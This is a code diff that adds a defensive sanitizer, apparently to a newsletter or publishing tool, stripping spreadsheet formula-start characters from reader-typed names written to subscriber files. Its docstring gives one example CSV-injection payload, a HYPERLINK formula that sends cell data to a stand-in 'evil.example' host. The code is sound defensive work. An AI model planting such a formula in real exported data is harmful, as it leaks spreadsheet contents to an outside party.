@@ -110,3 +110,18 @@ def media_type(value: object) -> str | None:
         return None
     essence = value.split(";", 1)[0].strip()
     return essence.lower() if _MEDIA_TYPE.fullmatch(essence) else None
+
+
+# what makes a spreadsheet run a cell as a formula (OWASP, CSV injection)
+FORMULA_START = "=+-@"
+
+
+def no_formula(text: str) -> str:
+    """``text`` without what would start a spreadsheet formula (``=``, ``+``, ``-``, ``@``, and
+    white space before them): for a name a reader typed (a web form, another service's
+    form) that is written into the subscriber files, which publishers open in spreadsheets
+    (``=HYPERLINK("https://evil.example/?"&A2)`` would run there)."""
+    start = 0
+    while start < len(text) and (text[start] in FORMULA_START or text[start].isspace()):
+        start += 1
+    return text[start:]
